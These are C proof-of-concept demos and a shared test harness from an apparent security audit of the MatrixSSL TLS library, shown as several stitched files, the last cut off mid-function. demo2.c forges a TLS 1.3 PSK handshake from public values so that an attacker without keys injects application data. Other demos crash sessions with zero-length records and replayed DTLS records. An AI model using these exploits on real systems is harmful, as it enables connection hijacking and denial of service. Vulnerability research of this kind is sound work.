    printf("        client sent %u bytes (CCS+Finished),"
        " matrixSslHandshakeIsComplete=%d\n", cap.len,
        (int) matrixSslHandshakeIsComplete(cli));

    n = gcm_seal(kb + 16, kb + 36, 1, 23, (const unsigned char *) evil,
            (uint32) strlen(evil), rec);
    memset(&cr, 0, sizeof(cr));
    feed(cli, rec, n, &cr);
    printf("step 4: fed attacker's application_data record: rc=%d,"
        " APP_DATA records=%d\n", cr.lastRc, cr.appDataRecords);
    if (cr.appDataRecords > 0)
    {
        printf("VIOLATION: client reported %u bytes of application data \"%.*s\""
            " from an attacker that holds no key (handshake complete=%d)\n",
            cr.appDataLen, (int) cr.appDataLen, cr.appData,
            (int) matrixSslHandshakeIsComplete(cli));
        return 1;
    }
    printf("OK: the client refused the attacker's handshake (alert %d sent),"
        " nothing was reported as application data\n", lastAlertSent);
    return 0;
}
