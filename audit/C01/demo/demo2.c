/*
  demo2: TLS 1.3 client that offers a PSK (here: the resumption ticket of a
  genuine earlier session).  A network attacker WITHOUT the PSK and without any
  certificate key completes the handshake "with PSK authentication" and has
  its bytes reported as application data.

  Root cause: the client never checks that the cipher suite the server selects
  has the hash the selected PSK belongs to (RFC 8446, 4.2.11), and its key
  schedule keeps one Early Secret buffer per hash:
    - tls13ParseServerHello()/tls13ParsePreSharedKey() (client branch) accept
      selected_identity for any suite; sslGetCipherSpec() skips
      haveKeyMaterial() on clients, which holds the only PSK/suite hash check;
    - tls13GenerateEarlySecret() returns early ("already generated") because
      tls13UsingPsk is set, so nothing is derived for the hash of the selected
      suite;
    - tls13DeriveHandshakeTrafficSecrets() then takes the Early Secret from
      the buffer of the SUITE's hash (tls13EarlySecretSha384 resp.
      tls13EarlySecret), which was never written: all zero.
  With no key_share in ServerHello the client also selects psk_ke (all-zero
  (EC)DHE input), so the whole key schedule is computed from public values,
  and because tls13UsingPsk is set the client expects no Certificate /
  CertificateVerify.
  (A resuming client presets ssl->cipher from its sslSessionId_t, so it only
  maintains the transcript hash of the old suite; the transcript hash of the
  newly selected suite is a never-initialised, all-zero hash context that is
  updated from ServerHello on - also a public computation, and it does not
  even cover the ClientHello.)
*/
#include "harness.h"

static sslKeys_t *cliKeys;

int main(void)
{
    sslKeys_t *srvKeys;
    ssl_t *cli, *srv;
    sslSessionId_t *sid;
    sslSessOpts_t sopt, copt;
    feedResult_t cr, sr;
    capture_t cap;
    unsigned char tname[16], tsym[32], tmac[32];
    unsigned char tr[4096];             /* handshake transcript */
    uint32 trLen = 0;
    unsigned char sh[256], ee[6] = { 8, 0, 0, 2, 0, 0 }, fin[4 + 48];
    unsigned char flight[1024], rec[512], inner[128];
    unsigned char zero[48] = { 0 }, empty[48], th[48];
    unsigned char derived[48], hsSecret[48], sHs[48], master[48], sAp[48];
    unsigned char finKey[48], verify[64];
    unsigned char hsKey[32], hsIv[12], apKey[32], apIv[12];
    const unsigned char *chMsg, *sidEcho;
    uint32 chLen, off, n, sidEchoLen;
    int32_t alg;
    size_t hl, keyLen;
    uint16_t suite;
    psHmac_t hctx;
    const char *evil = "INJECTED-BY-ATTACKER-WITHOUT-PSK";
    int i, binderLen, lastAlertSent = -1;

    CHECK(matrixSslOpen() >= 0, "open");
    CHECK(matrixSslNewKeys(&cliKeys, NULL) >= 0, "cli keys");
    CHECK(matrixSslLoadRsaKeysMem(cliKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) >= 0, "cli CA");
    CHECK(matrixSslNewSessionId(&sid, NULL) >= 0, "sid");

    /* control case: the honest version of what the attacker imitates */
    controlResumption(cliKeys, SSL_FLAGS_TLS_1_3, "TLS 1.3 PSK (ticket) resumption");

    /* ---- step 1: genuine TLS 1.3 session, certificate authenticated,
            the server issues a NewSessionTicket ---------------------------- */
    CHECK(matrixSslNewKeys(&srvKeys, NULL) >= 0, "srv keys");
    CHECK(matrixSslLoadRsaKeysMem(srvKeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) >= 0, "srv rsa");
    psGetPrngLocked(tname, 16, NULL);
    psGetPrngLocked(tsym, 32, NULL);
    psGetPrngLocked(tmac, 32, NULL);
    CHECK(matrixSslLoadSessionTicketKeys(srvKeys, tname, tsym, 32, tmac, 32)
        >= 0, "ticket keys");
    memset(&sopt, 0, sizeof(sopt));
    sopt.versionFlag = SSL_FLAGS_TLS_1_3;
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_3;
    CHECK(matrixSslNewServerSession(&srv, srvKeys, NULL, &sopt) >= 0, "srv");
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, NULL, 0,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli");
    memset(&cr, 0, sizeof(cr)); memset(&sr, 0, sizeof(sr));
    runHandshake(cli, srv, &cr, &sr);
    CHECK(matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv),
        "genuine handshake");
    CHECK(sid->psk != NULL, "client got a resumption PSK");
    printf("step 1: genuine TLS 1.3 handshake complete (suite 0x%04x); the"
        " client's sslSessionId_t holds a ticket with a %d byte PSK\n",
        cli->cipher->ident, (int) sid->psk->pskLen);
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(srvKeys);       /* the attacker has no server key */

    /* ---- step 2: the client reconnects ----------------------------------- */
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_3;
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, NULL, 0,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli 2");
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    CHECK(cap.len > 44 && cap.b[0] == 22 && cap.b[5] == 1, "ClientHello");
    chMsg = cap.b + 5;
    chLen = ((uint32) cap.b[3] << 8) + cap.b[4];
    CHECK(chLen + 5 <= cap.len, "ClientHello record");
    sidEchoLen = chMsg[4 + 2 + 32];
    sidEcho = chMsg + 4 + 2 + 32 + 1;
    /* The binder is the tail of the ClientHello; its length tells the hash
       of the offered PSK (public information) */
    if (chMsg[chLen - 35] == 0x00 && chMsg[chLen - 34] == 0x21 &&
        chMsg[chLen - 33] == 0x20)
    {
        binderLen = 32;
    }
    else
    {
        CHECK(chMsg[chLen - 51] == 0x00 && chMsg[chLen - 50] == 0x31 &&
            chMsg[chLen - 49] == 0x30, "binder");
        binderLen = 48;
    }
    /* ... and the attacker selects a suite with the OTHER hash */
    if (binderLen == 32)
    {
        suite = 0x1302; alg = HMAC_SHA384; hl = 48; keyLen = 32;
    }
    else
    {
        suite = 0x1301; alg = HMAC_SHA256; hl = 32; keyLen = 16;
    }
    printf("step 2: ClientHello of %u bytes offers a PSK with a %d byte binder;"
        " attacker selects suite 0x%04x\n", chLen, binderLen, suite);
    /* The resuming client hashes with the never-initialised context of the
       other hash, starting at ServerHello: the transcript the attacker has to
       reproduce does not contain the ClientHello */
    trLen = 0;

    /* ---- step 3: ServerHello (selected_identity 0, no key_share) --------- */
    off = 0;
    sh[off++] = 2; sh[off++] = 0; sh[off++] = 0; sh[off++] = 0;
    sh[off++] = 3; sh[off++] = 3;
    for (i = 0; i < 32; i++) sh[off++] = (unsigned char) (0x50 + i);
    sh[off++] = (unsigned char) sidEchoLen;
    memcpy(sh + off, sidEcho, sidEchoLen); off += sidEchoLen;
    sh[off++] = (unsigned char) (suite >> 8); sh[off++] = (unsigned char) suite;
    sh[off++] = 0;
    sh[off++] = 0; sh[off++] = 12;                       /* extensions */
    sh[off++] = 0; sh[off++] = 43; sh[off++] = 0; sh[off++] = 2;
    sh[off++] = 3; sh[off++] = 4;                        /* TLS 1.3 */
    sh[off++] = 0; sh[off++] = 41; sh[off++] = 0; sh[off++] = 2;
    sh[off++] = 0; sh[off++] = 0;                        /* selected_identity */
    sh[3] = (unsigned char) (off - 4);
    memcpy(tr + trLen, sh, off); trLen += off;

    /* key schedule from public values: Early Secret = 0..0 (the unwritten
       buffer), (EC)DHE input = 0..0 (psk_ke) */
    t13_hash(alg, (const unsigned char *) "", 0, empty);
    t13_expand(alg, zero, hl, "derived", empty, hl, derived, hl);
    t13_extract(alg, derived, zero, hl, hsSecret);
    t13_hash_zeroctx(alg, tr, trLen, th);                         /* CH..SH */
    t13_expand(alg, hsSecret, hl, "s hs traffic", th, hl, sHs, hl);
    t13_expand(alg, sHs, hl, "key", NULL, 0, hsKey, keyLen);
    t13_expand(alg, sHs, hl, "iv", NULL, 0, hsIv, 12);
    t13_expand(alg, sHs, hl, "finished", NULL, 0, finKey, hl);

    memcpy(tr + trLen, ee, sizeof(ee)); trLen += sizeof(ee);
    t13_hash_zeroctx(alg, tr, trLen, th);                         /* CH..EE */
    CHECK(psHmacSingle(&hctx, alg, finKey, (psSize_t) hl, th, hl, verify) >= 0,
        "hmac");
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = (unsigned char) hl;
    memcpy(fin + 4, verify, hl);
    memcpy(tr + trLen, fin, 4 + hl); trLen += 4 + hl;

    t13_expand(alg, hsSecret, hl, "derived", empty, hl, derived, hl);
    t13_extract(alg, derived, zero, hl, master);
    t13_hash_zeroctx(alg, tr, trLen, th);                         /* CH..server Fin */
    t13_expand(alg, master, hl, "s ap traffic", th, hl, sAp, hl);
    t13_expand(alg, sAp, hl, "key", NULL, 0, apKey, keyLen);
    t13_expand(alg, sAp, hl, "iv", NULL, 0, apIv, 12);

    n = 0;
    flight[n++] = 22; flight[n++] = 3; flight[n++] = 3;
    flight[n++] = 0; flight[n++] = (unsigned char) off;
    memcpy(flight + n, sh, off); n += off;
    memcpy(inner, ee, sizeof(ee));
    memcpy(inner + sizeof(ee), fin, 4 + hl);
    n += t13_seal(hsKey, keyLen, hsIv, 0, 22, inner,
            (uint32) (sizeof(ee) + 4 + hl), flight + n);

    memset(&cr, 0, sizeof(cr));
    feed(cli, flight, n, &cr);
    printf("step 3: fed ServerHello + {EncryptedExtensions, Finished}: rc=%d,"
        " client hsState=%d tls13UsingPsk=%d\n", cr.lastRc, cli->hsState,
        (int) cli->sec.tls13UsingPsk);
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    if (cap.len >= 7 && cap.b[0] == 21) lastAlertSent = cap.b[6];
    hexdump("        client output", cap.b, cap.len);
    printf("        matrixSslHandshakeIsComplete(client)=%d\n",
        (int) matrixSslHandshakeIsComplete(cli));

    /* ---- step 4: attacker's application data ------------------------------ */
    n = t13_seal(apKey, keyLen, apIv, 0, 23, (const unsigned char *) evil,
            (uint32) strlen(evil), rec);
    memset(&cr, 0, sizeof(cr));
    feed(cli, rec, n, &cr);
    printf("step 4: fed attacker's application_data record: rc=%d,"
        " APP_DATA records=%d\n", cr.lastRc, cr.appDataRecords);
    if (cr.appDataRecords > 0)
    {
        printf("VIOLATION: TLS 1.3 client reported %u bytes of application data"
            " \"%.*s\" from an attacker that knows neither the PSK nor any"
            " certificate key (handshake complete=%d)\n", cr.appDataLen,
            (int) cr.appDataLen, cr.appData,
            (int) matrixSslHandshakeIsComplete(cli));
        return 1;
    }
    printf("OK: the client refused the attacker's handshake (alert %d sent),"
        " nothing was reported as application data\n", lastAlertSent);
    return 0;
}
