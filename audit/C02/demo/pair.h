/* Session pair set-up shared by the demos */
#ifndef C02_PAIR_H
#define C02_PAIR_H
#include "common.h"

static int setupPair(peer_t *cli, peer_t *svr, int32 versionFlag, psCipher16_t cipher, int isDtls)
{
    sslSessOpts_t so, co;
    psCipher16_t c[1];

    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = versionFlag | (isDtls ? SSL_FLAGS_DTLS : 0);
    cli->name = "client"; svr->name = "server";
    if (loadRsaKeys(&svr->keys) < 0 || loadRsaKeys(&cli->keys) < 0) return -1;
    if (matrixSslNewServerSession(&svr->ssl, svr->keys, NULL, &so) < 0) return -2;
    c[0] = cipher;
    if (matrixSslNewClientSession(&cli->ssl, cli->keys, NULL, c, 1, certCb,
            NULL, NULL, NULL, &co) < 0) return -3;
    if (pumpHandshake(cli, svr, isDtls) < 0) return -4;
    if (!matrixSslHandshakeIsComplete(cli->ssl) || !matrixSslHandshakeIsComplete(svr->ssl)) return -5;
    return 0;
}
#endif
