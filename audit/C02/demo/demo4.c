/* C02 demo 4: plaintext length 0.  A zero-length application data record is
   legal (RFC 8446 5.1 / 5.4 "may contain a zero-length
   TLSInnerPlaintext.content", RFC 5246 6.2.1) and the library's own sender
   produces it (matrixSslGetWritebuf + matrixSslEncodeWritebuf(ssl, 0): "If
   len is zero, we send out a blank ssl record").

   TLS 1.3 receiver: matrixssl/tls13Decode.c matrixSslDecodeTls13 ~346-363:
   the padding-strip loop stops at p == decryptTo for an empty content and
   the following "if (p == decryptTo)" treats a record whose FIRST inner byte
   is the (non-zero) content type as "no non-zero octet found":
   unexpected_message, session dead.  Everything the peer sends afterwards is
   lost although nobody touched the ciphertext.

   TLS 1.2 AES-GCM receiver: matrixssl/cipherSuite.c csAesGcmDecrypt ~267:
   "if (len < 25) return PS_FAILURE" rejects the 24-byte record
   (8 explicit nonce + 0 + 16 tag) of an empty fragment; the session ends with
   a fatal alert.  (The MatrixSSL GCM sender refuses to produce it, so that
   record is built here from the client's own write keys exactly as any other
   TLS stack would emit it.)  TLS 1.2 CBC handles the empty record fine and
   is shown for contrast. */
#include "pair.h"

static int sendBlank(peer_t *p, unsigned char **wire)
{
    unsigned char *wb;
    int32 rc = matrixSslGetWritebuf(p->ssl, &wb, 0);
    if (rc < 0) return rc;
    rc = matrixSslEncodeWritebuf(p->ssl, 0);
    if (rc < 0) return rc;
    return takeOutdata(p, wire, 0);
}

/* An empty TLS 1.2 AES-GCM application data record under the sender's current
   write state (what e.g. OpenSSL sends for SSL_write(ssl, "", 0) equivalents) */
static int craftGcm12(peer_t *p, const unsigned char *pt, int len, unsigned char **wire)
{
    ssl_t *s = p->ssl;
    psAesGcm_t ctx;
    unsigned char nonce[16], aad[13], *rec = malloc(5 + 8 + len + 16), dummy[1];
    int i;

    memset(&ctx, 0, sizeof(ctx));
    if (psAesInitGCM(&ctx, s->sec.writeKey, s->cipher->keySize) < 0) return -1;
    memcpy(nonce, s->sec.writeIV, 4);
    memcpy(nonce + 4, s->sec.seq, 8);
    memcpy(aad, s->sec.seq, 8);
    aad[8] = 23; aad[9] = 3; aad[10] = 3; aad[11] = 0; aad[12] = len;
    memset(nonce + 12, 0, 4);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    if (len > 0) psAesEncryptGCM(&ctx, pt, rec + 13, len);
    else psAesEncryptGCM(&ctx, dummy, dummy, 0);
    rec[0] = 23; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = 24 + len;
    memcpy(rec + 5, s->sec.seq, 8);
    psAesGetGCMTag(&ctx, 16, rec + 13 + len);
    psAesClearGCM(&ctx);
    for (i = 7; i >= 0; i--) { if (++s->sec.seq[i] != 0) break; } /* the sender used this sequence number */
    *wire = rec;
    return 29 + len;
}

static int run(int32 ver, psCipher16_t cipher, const char *label, int craftGcm)
{
    peer_t cli, svr;
    unsigned char *w, *sout;
    int n, rc, sn, violation = 0;
    feed_t *r = calloc(1, sizeof(*r)), *rc2 = calloc(1, sizeof(*rc2));

    rc = setupPair(&cli, &svr, ver, cipher, 0);
    if (rc < 0) { printf("%s: setup failed %d\n", label, rc); return -1; }
    printf("== %s: handshake complete; client submits \"A\", \"\" (length 0), \"B\"\n", label);

    /* (for the hand-built GCM case "A" is built the same way: control that
       the construction is a valid record) */
    n = craftGcm ? craftGcm12(&cli, (const unsigned char *) "A", 1, &w)
                 : sendApp(&cli, (const unsigned char *) "A", 1, &w, 0);
    feedBytes(&svr, w, n, r);
    printf("\"A\": %d wire bytes, delivered %d byte(s), rc=%d\n", n, r->dataLen, r->lastRc);
    n = craftGcm ? craftGcm12(&cli, NULL, 0, &w) : sendBlank(&cli, &w);
    if (n <= 0) { printf("%s: sender cannot produce an empty record (rc %d)\n", label, n); return 0; }
    printf("empty record on the wire: %d bytes\n", n);
    feedBytes(&svr, w, n, r);
    printf("after the empty record: rc=%d err=%d nAppData=%d, error flag=%d\n", r->lastRc, r->err,
        r->nAppData, (svr.ssl->flags & SSL_FLAGS_ERROR) ? 1 : 0);
    sn = takeOutdata(&svr, &sout, 0);
    if (sn > 0)
    {
        feedBytes(&cli, sout, sn, rc2);
        printf("server sent %d bytes; client decodes them as alert: got=%d level=%d description=%d\n",
            sn, rc2->gotAlert, rc2->alertLevel, rc2->alertDesc);
    }
    n = sendApp(&cli, (const unsigned char *) "B", 1, &w, 0);
    if (n > 0) feedBytes(&svr, w, n, r);
    printf("server application received %d byte(s): '%.*s' (submitted: 'AB'), last rc=%d\n",
        r->dataLen, r->dataLen, r->data, r->err < 0 ? r->err : r->lastRc);
    if (r->dataLen != 2 || (svr.ssl->flags & SSL_FLAGS_ERROR))
    {
        printf("VIOLATION: %s: an unmodified zero-length application data record ended the session with "
            "fatal alert %d; data submitted after it is never delivered\n", label, rc2->alertDesc);
        violation = 1;
    }
    else
    {
        printf("OK: %s: empty record delivered as 0 bytes, stream 'AB' complete\n", label);
    }
    return violation;
}

/* Control: an empty record that was modified in transit is still fatal */
static int tampered(int32 ver, psCipher16_t cipher, const char *label, int craftGcm)
{
    peer_t cli, svr;
    unsigned char *w;
    int n;
    feed_t *r = calloc(1, sizeof(*r));

    if (setupPair(&cli, &svr, ver, cipher, 0) < 0) return 1;
    n = craftGcm ? craftGcm12(&cli, NULL, 0, &w) : sendBlank(&cli, &w);
    if (n <= 0) return 0;
    w[n - 1] ^= 0x40;
    feedBytes(&svr, w, n, r);
    if (!(svr.ssl->flags & SSL_FLAGS_ERROR) || r->nAppData != 0)
    {
        printf("VIOLATION: control %s: modified empty record not rejected (rc %d)\n", label, r->lastRc);
        return 1;
    }
    printf("OK: control %s: modified empty record ends the session with a fatal alert\n", label);
    return 0;
}

int main(void)
{
    int a, b, c, d;
    matrixSslOpen();
    a = run(SSL_FLAGS_TLS_1_3, 0x1301, "TLS1.3 AES-128-GCM", 0);
    b = run(SSL_FLAGS_TLS_1_3, 0x1303, "TLS1.3 CHACHA20-POLY1305", 0);
    c = run(SSL_FLAGS_TLS_1_2, 0x009c, "TLS1.2 AES-128-GCM (record built from the client's write keys)", 1);
    d = run(SSL_FLAGS_TLS_1_2, 0x003c, "TLS1.2 AES-128-CBC-SHA256 (contrast)", 0);
    d |= tampered(SSL_FLAGS_TLS_1_3, 0x1301, "TLS1.3 AES-128-GCM", 0);
    d |= tampered(SSL_FLAGS_TLS_1_3, 0x1303, "TLS1.3 CHACHA20-POLY1305", 0);
    d |= tampered(SSL_FLAGS_TLS_1_2, 0x009c, "TLS1.2 AES-128-GCM", 1);
    printf("violations: tls13-gcm=%d tls13-chacha=%d tls12-gcm=%d tls12-cbc=%d\n", a, b, c, d);
    return (a > 0 || b > 0 || c > 0 || d > 0) ? 1 : 0;
}
