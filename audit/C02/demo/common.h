/* Shared in-memory client/server harness for the C02 audit demos.
   Drives only the public MatrixSSL API. */
#ifndef C02_COMMON_H
#define C02_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslImpl.h" /* as matrixssl/test/sslTest.c does; needed for psTls13SessionParams_t */

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"
#include "testkeys/PSK/tls13_psk.h"

typedef struct
{
    ssl_t *ssl;
    sslKeys_t *keys;
    const char *name;
} peer_t;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: authentication is not what is under test */
}

static int g_verbose = 0;

static void hexdump(const char *tag, const unsigned char *b, int n)
{
    int i;
    printf("%s (%d):", tag, n);
    for (i = 0; i < n && i < 48; i++) printf(" %02x", b[i]);
    if (n > 48) printf(" ...");
    printf("\n");
}

static int loadRsaKeys(sslKeys_t **keys)
{
    if (matrixSslNewKeys(keys, NULL) < 0) return -1;
    if (matrixSslLoadRsaKeysMem(*keys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        return -1;
    }
    return 0;
}

/* Take everything the sender has queued and return it in a malloc'd wire
   buffer (the "network").  Works for TLS and DTLS (for DTLS each call is one
   datagram). */
static int takeOutdata(peer_t *p, unsigned char **wire, int isDtls)
{
    unsigned char *out;
    int32 n;
    int total = 0;
    *wire = NULL;
    for (;;)
    {
#ifdef USE_DTLS
        if (isDtls)
        {
            /* only fetch real pending output: calling matrixDtlsGetOutdata on
               an empty outbuf asks the library for a flight retransmit */
            if (matrixSslGetOutdata(p->ssl, &out) <= 0) break;
            n = matrixDtlsGetOutdata(p->ssl, &out);
        }
        else
#endif
            n = matrixSslGetOutdata(p->ssl, &out);
        if (n <= 0) break;
        *wire = realloc(*wire, total + n);
        memcpy(*wire + total, out, n);
        total += n;
#ifdef USE_DTLS
        if (isDtls)
        {
            matrixDtlsSentData(p->ssl, n);
            break; /* one datagram at a time */
        }
        else
#endif
            matrixSslSentData(p->ssl, n);
    }
    return total;
}

/* Result of feeding bytes to a receiver */
typedef struct
{
    unsigned char data[70000];
    int dataLen;          /* plaintext delivered with MATRIXSSL_APP_DATA */
    int nAppData;         /* number of APP_DATA returns */
    int lastRc;           /* last return code */
    int gotAlert;         /* MATRIXSSL_RECEIVED_ALERT seen */
    unsigned char alertLevel, alertDesc;
    int hsComplete;
    int requestSend;
    int err;              /* negative rc seen */
} feed_t;

/* Feed 'len' wire bytes to receiver p, in one matrixSslReceivedData call
   (or several if the read buffer is smaller), collecting all plaintext. */
static void feedBytes(peer_t *p, const unsigned char *wire, int len, feed_t *r)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 rc, room;
    int off = 0;

    while (off < len)
    {
        int chunk;
        room = matrixSslGetReadbuf(p->ssl, &buf);
        if (room <= 0) { r->err = room ? room : -999; r->lastRc = r->err; return; }
        chunk = len - off;
        if (chunk > room) chunk = room;
        memcpy(buf, wire + off, chunk);
        off += chunk;
        rc = matrixSslReceivedData(p->ssl, chunk, &pt, &ptLen);
        for (;;)
        {
            r->lastRc = rc;
            if (g_verbose) printf("  [%s] rc=%d ptLen=%u\n", p->name, rc, ptLen);
            if (rc == MATRIXSSL_APP_DATA)
            {
                r->nAppData++;
                if (r->dataLen + (int) ptLen <= (int) sizeof(r->data))
                {
                    memcpy(r->data + r->dataLen, pt, ptLen);
                    r->dataLen += ptLen;
                }
                rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                r->gotAlert = 1;
                r->alertLevel = pt[0];
                r->alertDesc = pt[1];
                rc = matrixSslProcessedData(p->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) r->hsComplete = 1;
            if (rc == MATRIXSSL_REQUEST_SEND) r->requestSend = 1;
            if (rc < 0) { r->err = rc; return; }
            break;
        }
    }
}

/* Run the handshake to completion between two peers. Returns 0 on success */
static int pumpHandshake(peer_t *a, peer_t *b, int isDtls)
{
    int i, progress;
    int aDone = 0, bDone = 0;
    for (i = 0; i < 60; i++)
    {
        unsigned char *w;
        int n;
        feed_t *r = calloc(1, sizeof(*r));
        progress = 0;
        while ((n = takeOutdata(a, &w, isDtls)) > 0)
        {
            progress = 1;
            feedBytes(b, w, n, r);
            free(w);
            if (r->err < 0) { printf("handshake: %s error %d\n", b->name, r->err); free(r); return -1; }
            if (r->hsComplete) bDone = 1;
        }
        memset(r, 0, sizeof(*r));
        while ((n = takeOutdata(b, &w, isDtls)) > 0)
        {
            progress = 1;
            feedBytes(a, w, n, r);
            free(w);
            if (r->err < 0) { printf("handshake: %s error %d\n", a->name, r->err); free(r); return -1; }
            if (r->hsComplete) aDone = 1;
        }
        free(r);
        if (matrixSslHandshakeIsComplete(a->ssl) && matrixSslHandshakeIsComplete(b->ssl) && !progress)
        {
            (void) aDone; (void) bDone;
            return 0;
        }
        if (!progress) break;
    }
    return (matrixSslHandshakeIsComplete(a->ssl) && matrixSslHandshakeIsComplete(b->ssl)) ? 0 : -1;
}

/* Encode one application record from p; return wire bytes of that record(s) */
static int sendApp(peer_t *p, const unsigned char *data, int len, unsigned char **wire, int isDtls)
{
    int32 rc;
    if (len == 0)
    {
        unsigned char *wb;
        rc = matrixSslGetWritebuf(p->ssl, &wb, 0);
        if (rc < 0) return rc;
        rc = matrixSslEncodeWritebuf(p->ssl, 0);
    }
    else
    {
        rc = matrixSslEncodeToOutdata(p->ssl, (unsigned char *) data, len);
    }
    if (rc < 0) return rc;
    return takeOutdata(p, wire, isDtls);
}

#endif
