/* C02 demo 3 (DTLS): when matrixSslDecode skips one or more records at the
   front of a datagram (old-epoch handshake retransmits, replayed records) and
   then returns application data from a later record of the same datagram,
   matrixSslProcessedData() locates the rest of the datagram with
   ctlen = ssl->rec.len + ssl->recordHeadLen, i.e. as if the delivered record
   had been the FIRST one in the buffer.  The remaining genuine records are
   then parsed from the wrong offset: a genuine, unmodified record is lost and
   the receiver kills the session with a fatal alert.

   Where: matrixssl/sslDecode.c matrixSslDecodeTls12AndBelow ("goto decodeMore"
   paths at ~790-823 and ~850-858 advance c but keep decrypting "to the front",
   origbuf) together with matrixssl/matrixsslApi.c matrixSslProcessedData
   (~1775-1788).

   Part A needs no attacker at all: the client retransmits its last handshake
   flight the way the API documents it (matrixDtlsGetOutdata polled on an
   empty outbuf after a timeout), the application queues two records, and the
   library itself packs [CCS][Finished][app A2][app A3] into one datagram.
   Part B: the attacker prepends a replayed (already delivered) record to a
   datagram with two fresh records. */
#include "pair.h"

static void describe(const unsigned char *d, int n)
{
    int o;
    for (o = 0; o + 13 <= n; )
    {
        int l = (d[o + 11] << 8) | d[o + 12];
        printf(" [type %d epoch %d seq %d len %d]", d[o], d[o + 4], d[o + 10], l);
        o += 13 + l;
    }
    printf("\n");
}

static int partA(void)
{
    peer_t cli, svr;
    unsigned char *w, *out, *sout;
    int n, sn, rc, violation = 0;
    feed_t *r = calloc(1, sizeof(*r));

    rc = setupPair(&cli, &svr, SSL_FLAGS_TLS_1_2, 0x003c, 1);
    if (rc < 0) { printf("setup failed %d\n", rc); return -1; }
    printf("== Part A: no attacker.  DTLS 1.2 AES-128-CBC-SHA256, handshake complete\n");

    n = sendApp(&cli, (const unsigned char *) "A1", 2, &w, 1);
    feedBytes(&svr, w, n, r);
    printf("A1 delivered: %d bytes rc=%d\n", r->dataLen, r->lastRc);

    /* client side timer: nothing queued, poll twice -> the library rebuilds
       the last handshake flight (the client has not received application
       data yet, so it cannot know its Finished arrived) */
    n = matrixDtlsGetOutdata(cli.ssl, &out);
    n = matrixDtlsGetOutdata(cli.ssl, &out);
    printf("client rebuilt its last flight: %d bytes pending\n", n);
    /* the application sends two more messages */
    if (matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "A2-A2", 5) < 0) return -1;
    if (matrixSslEncodeToOutdata(cli.ssl, (unsigned char *) "A3-A3-A3", 8) < 0) return -1;

    while ((n = matrixDtlsGetOutdata(cli.ssl, &out)) > 0)
    {
        printf("client datagram, %d bytes:", n);
        describe(out, n);
        memset(r, 0, sizeof(*r));
        feedBytes(&svr, out, n, r);
        printf("  server: rc=%d err=%d delivered %d bytes '%.*s'\n", r->lastRc, r->err,
            r->dataLen, r->dataLen, r->data);
        sn = matrixSslGetOutdata(svr.ssl, &sout);
        if (sn > 0) hexdump("  server produced output", sout, sn);
        if ((svr.ssl->flags & SSL_FLAGS_ERROR) || r->err < 0)
        {
            printf("VIOLATION: unmodified genuine datagram: 'A2-A2' delivered, 'A3-A3-A3' lost and the "
                "server ended the session with a fatal alert (record type %d in its outdata)\n",
                sn > 0 ? sout[0] : -1);
            violation = 1;
            break;
        }
        if (r->dataLen != 13)
        {
            printf("VIOLATION: genuine record of an unmodified datagram not delivered (%d of 13 bytes)\n", r->dataLen);
            violation = 1;
        }
        else
        {
            printf("OK: Part A: both application records behind the retransmitted flight delivered, session alive\n");
        }
        matrixDtlsSentData(cli.ssl, n);
    }
    return violation;
}

static int partB(void)
{
    peer_t cli, svr;
    unsigned char *w1, *w2, *w3, *sout, dg[600];
    int n1, n2, n3, sn, rc, violation = 0;
    feed_t *r = calloc(1, sizeof(*r));

    rc = setupPair(&cli, &svr, SSL_FLAGS_TLS_1_2, 0x009c, 1);
    if (rc < 0) { printf("setup failed %d\n", rc); return -1; }
    printf("== Part B: replayed record in front.  DTLS 1.2 AES-128-GCM, handshake complete\n");
    n1 = sendApp(&cli, (const unsigned char *) "B1", 2, &w1, 1);
    n2 = sendApp(&cli, (const unsigned char *) "B2-B2", 5, &w2, 1);
    n3 = sendApp(&cli, (const unsigned char *) "B3-B3-B3", 8, &w3, 1);
    feedBytes(&svr, w1, n1, r);
    printf("B1 delivered: %d bytes rc=%d\n", r->dataLen, r->lastRc);
    memcpy(dg, w1, n1); memcpy(dg + n1, w2, n2); memcpy(dg + n1 + n2, w3, n3);
    printf("attacker datagram = replay(B1) + B2 + B3:");
    describe(dg, n1 + n2 + n3);
    memset(r, 0, sizeof(*r));
    feedBytes(&svr, dg, n1 + n2 + n3, r);
    printf("  server: rc=%d err=%d delivered %d bytes '%.*s'\n", r->lastRc, r->err, r->dataLen, r->dataLen, r->data);
    sn = matrixSslGetOutdata(svr.ssl, &sout);
    if (sn > 0) hexdump("  server produced output", sout, sn);
    if (r->dataLen != 13 || (svr.ssl->flags & SSL_FLAGS_ERROR))
    {
